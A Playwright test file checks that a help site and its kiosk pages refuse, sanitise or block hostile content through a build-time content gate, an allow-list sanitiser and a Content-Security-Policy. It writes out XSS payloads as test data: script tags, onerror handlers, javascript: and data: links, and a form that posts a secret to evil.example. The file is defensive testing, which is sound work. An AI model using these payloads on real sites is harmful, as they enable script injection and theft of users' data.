import { spawn } from 'node:child_process';
import {
  appendFileSync,
  cpSync,
  existsSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { childEnv, SKIP_MARKDOWN_CHECK } from '../../src/config';
import { serveStatic } from '../../src/node/static-server';

/**
 * Content is data, never markup (issue 15). A copy of the shipped content
 * gets hostile Markdown in the "Your rights" page (shown on the site and on
 * the kiosk) and hostile text in a helpline's YAML. The content gate must
 * refuse the Markdown, naming file and line, without a stack trace and
 * without writing anything. Built again with only the Markdown check off
 * (a switch for this test alone), the layers behind the gate must hold:
 * the allow-list sanitiser and the Content-Security-Policy. Each page is
 * opened in Chromium served with the build's headers, and served with no
 * headers at all (only the <meta> policy in every page).
 */
// One worker builds once for the whole file; a failing test does not skip the others.
test.describe.configure({ mode: 'default' });

const HOSTILE_MARKDOWN = `

## Hostile test section

Text before the attack stays readable.

<script>window.__pwned = 'inline script'</script>

<iframe srcdoc="<script>parent.__pwned = 'iframe'</script>"></iframe>

<img src="x" onerror="window.__pwned = 'img onerror'">

[Tap for help](javascript:window.__pwned=location.href)

<form action="https://evil.example/steal"><input name="secret" value="typed"><button id="hostile-send">Send</button></form>

<a href="data:text/html,<script>alert(1)</script>">data link</a> and [a safe link](https://www.gov.uk/)
`;

/** Passes every YAML check (it is a short, plain string) and must reach the page as text. */
const HOSTILE_NAME = `ANITP office <script>window.__pwned = 'yaml'</script><img src=x onerror="window.__pwned='yaml img'">`;

let work = '';
let contentDir = '';
let outDir = '';
let refused = { code: -1 as number | null, output: '', wroteOutput: true };
const servers: { name: string; origin: string; close: () => Promise<void> }[] = [];

function build(env: Record<string, string>): Promise<{ code: number | null; output: string }> {
  return new Promise((done, fail) => {
    const child = spawn('npx', ['astro', 'build'], {
      env: childEnv({
        CONTENT_DIR: contentDir,
        OUT_DIR: outDir,
        ASTRO_CACHE_DIR: join(work, 'cache'),
        PUBLIC_LOCALES: 'en',
        SITE_URL: 'http://localhost:4321',
        STAFF_BUILD: '',
        ...env,
      }),
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let output = '';
    child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (output += chunk.toString()));
    child.on('error', fail);
    child.on('close', (code) => done({ code, output }));
  });
}

test.beforeAll(async () => {
  test.setTimeout(10 * 60_000);
  work = mkdtempSync(join(tmpdir(), 'hostile-content-'));
  contentDir = join(work, 'content');
  outDir = join(work, 'dist');
  cpSync('content', contentDir, { recursive: true });
  appendFileSync(join(contentDir, 'info/en/your-rights.md'), HOSTILE_MARKDOWN);
  const contact = join(contentDir, 'contacts/ro/anitp-office.yaml');
  writeFileSync(
    contact,
    readFileSync(contact, 'utf8').replace(
      'en: "ANITP office (national rapporteur)"',
      `en: ${JSON.stringify(HOSTILE_NAME)}`,
    ),
  );

  refused = { ...(await build({})), wroteOutput: existsSync(outDir) };
  const built = await build({ [SKIP_MARKDOWN_CHECK]: '1' });
  if (built.code !== 0)
    throw new Error(
      `the build with the Markdown check off failed (exit ${built.code}):\n${built.output.slice(-4000)}`,
    );
  const withHeaders = await serveStatic(outDir);
  const metaOnly = await serveStatic(outDir, { withHeaders: false });
  servers.push(
    { name: 'with the headers', ...withHeaders },
    { name: 'with only the <meta> policy', ...metaOnly },
  );
});

test.afterAll(async () => {
  await Promise.all(servers.map((server) => server.close()));
  if (work) rmSync(work, { recursive: true, force: true });
});

test('the content gate refuses the raw HTML and the javascript: link, by file and line, with no stack trace and nothing written', () => {
  expect(refused.code).toBe(1);
  const lines = refused.output.split('\n');
  const markdownLines = readFileSync(join(contentDir, 'info/en/your-rights.md'), 'utf8').split('\n');
  const lineOf = (text: string) => markdownLines.findIndex((line) => line.includes(text)) + 1;
  for (const [text, message] of [
    ['<script>', 'raw HTML "<script>'],
    ['<iframe', 'raw HTML "<iframe'],
    ['<img src="x"', 'raw HTML "<img'],
    ['javascript:', 'the link address "javascript:'],
    ['<form', 'raw HTML "<form'],
  ] as const) {
    expect(
      lines.some((line) =>
        line.includes(`content/info/en/your-rights.md → line ${lineOf(text)}: ${message}`),
      ),
      `${message}\n${refused.output}`,
    ).toBe(true);
  }
  expect(refused.output).toMatch(/Content has \d+ problem\(s\); nothing was built\./);
  // A stack trace would print "    at function (file:line)" frames.
  expect(refused.output).not.toMatch(/^\s+at\s/m);
  expect(refused.wroteOutput).toBe(false);
});

/** Opens a page and fails on anything hostile that ran, loaded or was shown as markup. */
async function openWatched(page: Page, url: string) {
  const dialogs: string[] = [];
  const foreign: string[] = [];
  page.on('dialog', async (dialog) => {
    dialogs.push(dialog.message());
    await dialog.dismiss();
  });
  page.on('request', (request) => {
    if (!request.url().startsWith(new URL(url).origin) && !request.url().startsWith('data:'))
      foreign.push(request.url());
  });
  const response = await page.goto(url);
  await page.waitForLoadState('networkidle');
  await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
  await page.waitForLoadState('networkidle');
  return {
    response,
    dialogs,
    foreign,
    pwned: () => page.evaluate(() => (window as { __pwned?: string }).__pwned ?? null),
  };
}

for (const [index, served] of ['with the headers', 'with only the <meta> policy'].entries()) {
  test.describe(() => {
    const server = () => {
      const found = servers[index];
      if (!found) throw new Error('the build is not served');
      return found;
    };

    test(`hostile Markdown on the site runs nothing, ${served}`, async ({ page }) => {
      const watched = await openWatched(page, `${server().origin}/en/info/your-rights/`);
      expect(watched.response?.headers()['content-security-policy'] ?? null).toEqual(
        index === 0 ? expect.stringContaining("script-src 'self'") : null,
      );
      const prose = page.locator('.prose');
      await expect(prose).toContainText('Text before the attack stays readable.');
      expect(
        await prose
          .locator('script, iframe, img, form, input, button, object, embed, [onerror], [srcdoc]')
          .count(),
      ).toBe(0);
      expect(
        await prose.locator('a[href]').evaluateAll((links) => links.map((link) => link.getAttribute('href'))),
      ).toContain('https://www.gov.uk/');
      expect(await prose.locator('a[href^="javascript:" i], a[href^="data:" i]').count()).toBe(0);
      // The link that was javascript: is now text with no address; tapping it does nothing.
      await prose.getByText('Tap for help').click();
      expect(page.url()).toBe(`${server().origin}/en/info/your-rights/`);
      expect(await watched.pwned()).toBeNull();
      expect(watched.dialogs).toEqual([]);
      expect(watched.foreign).toEqual([]);
    });

    test(`hostile Markdown on the kiosk runs nothing, ${served}`, async ({ page }) => {
      const watched = await openWatched(page, `${server().origin}/kiosk/ro/bucuresti-nord/en/`);
      const rights = page.locator('#rights .prose');
      await expect(rights).toContainText('Text before the attack stays readable.');
      expect(
        await rights.locator('a, script, iframe, img, form, input, button, [onerror], [srcdoc]').count(),
      ).toBe(0);
      expect(await watched.pwned()).toBeNull();
      expect(watched.dialogs).toEqual([]);
      expect(watched.foreign).toEqual([]);
    });

    test(`hostile text in YAML shows as text, ${served}`, async ({ page }) => {
      const watched = await openWatched(page, `${server().origin}/en/ro/`);
      await expect(page.getByText(HOSTILE_NAME, { exact: false }).first()).toBeVisible();
      expect(await watched.pwned()).toBeNull();
      expect(watched.dialogs).toEqual([]);
    });

    test(`the policy blocks an inline script or handler that reaches the page anyway, ${served}`, async ({
      page,
    }) => {
      await page.goto(`${server().origin}/en/ro/bucuresti-nord/`);
      const blocked = await page.evaluate(async () => {
        const violations: string[] = [];
        document.addEventListener('securitypolicyviolation', (event) =>
          violations.push(event.effectiveDirective),
        );
        const script = document.createElement('script');
        script.textContent = "window.__pwned = 'injected script'";
        document.body.append(script);
        const holder = document.createElement('div');
        holder.innerHTML = `<img src="/favicon.svg?x" onload="window.__pwned = 'injected handler'">`;
        document.body.append(holder);
        const frame = document.createElement('iframe');
        frame.src = 'https://evil.example/';
        document.body.append(frame);
        // Wait for all three reports (the image must load before its handler would run), at most 10 s.
        for (let waited = 0; waited < 10_000 && new Set(violations).size < 3; waited += 100)
          await new Promise((resolve) => setTimeout(resolve, 100));
        return { pwned: (window as { __pwned?: string }).__pwned ?? null, violations };
      });
      expect(blocked.pwned).toBeNull();
      expect(blocked.violations).toEqual(
        expect.arrayContaining(['script-src-elem', 'script-src-attr', 'frame-src']),
      );
    });
  });
}
